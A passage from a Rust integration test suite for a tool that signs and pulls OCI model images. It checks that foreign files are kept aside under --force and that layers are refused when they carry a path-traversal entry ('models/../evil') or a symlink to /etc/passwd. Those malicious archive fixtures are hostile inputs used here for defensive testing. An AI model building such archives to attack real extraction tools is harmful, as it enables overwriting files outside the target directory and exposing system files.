    // With --force the foreign files are moved aside, never deleted.
    env.hs(&[
        "pull",
        &env.oci("r/m:v1"),
        "--public-key",
        p256_pub(),
        "--local-dir",
        local.to_str().unwrap(),
        "--force",
    ])
    .ok();
    assert_eq!(
        std::fs::read(local.join("config.json")).unwrap(),
        std::fs::read(model.join("config.json")).unwrap()
    );
    let kept: Vec<_> = tree_state(&env.path("work"))
        .into_iter()
        .filter(|(k, _)| !k.starts_with("local/") && !k.starts_with("tiny-bert"))
        .filter(|(k, _)| k.ends_with("notes.txt") || k.ends_with("config.json"))
        .collect();
    assert_eq!(kept.len(), 2, "the foreign files were not kept aside: {kept:?}");
}

#[test]
fn olot_file_layers_naming_an_escaping_path_or_holding_a_link_are_refused() {
    let Some(env) = Env::start(RegistryAuth::None) else {
        return;
    };
    let c = env.client();
    let parent = env.path("work/pulls");
    std::fs::create_dir_all(&parent).unwrap();
    let weights = b"weights";
    let file_layer = |inlayer: &str| {
        json!({
            layout::OLOT_CONTENT_TYPE: "file",
            layout::OLOT_CONTENT_PATH: inlayer,
            layout::OLOT_CONTENT_DIGEST: image::digest_of(weights),
        })
    };
    // The path annotation escapes /models/: refused from the manifest, naming the annotation.
    let tar = raw_tar(&[("models/../evil", b'0', weights, "")]);
    push_modelcar(&c, "r/file", "escape", &tar, &file_layer("/models/../evil"));
    let reference = env.oci("r/file:escape");
    let local = parent.join("escape");
    for args in [
        vec!["sign", &reference, "--private-key", p256()],
        vec![
            "pull",
            &reference,
            "--public-key",
            p256_pub(),
            "--local-dir",
            local.to_str().unwrap(),
        ],
    ] {
        env.hs(&args)
            .expect_code(2)
            .stderr_has(layout::OLOT_CONTENT_PATH)
            .stderr_has("/models/../evil");
    }
    // The file the annotation names is a symlink in the layer: no such file, nothing written.
    let tar = raw_tar(&[("models/model.bin", b'2', b"", "/etc/passwd")]);
    let layer = image::digest_of(&tar);
    push_modelcar(&c, "r/file", "link", &tar, &file_layer("/models/model.bin"));
    env.hs(&["sign", &env.oci("r/file:link"), "--private-key", p256()])
        .expect_code(2)
        .stderr_has(&layer)
        .stderr_has("model.bin");
    assert_eq!(tree_state(&parent), std::collections::BTreeMap::new());
    assert!(files_named(env.tmp.path(), "evil").is_empty());
    assert!(files_named(env.tmp.path(), "model.bin").is_empty());
}
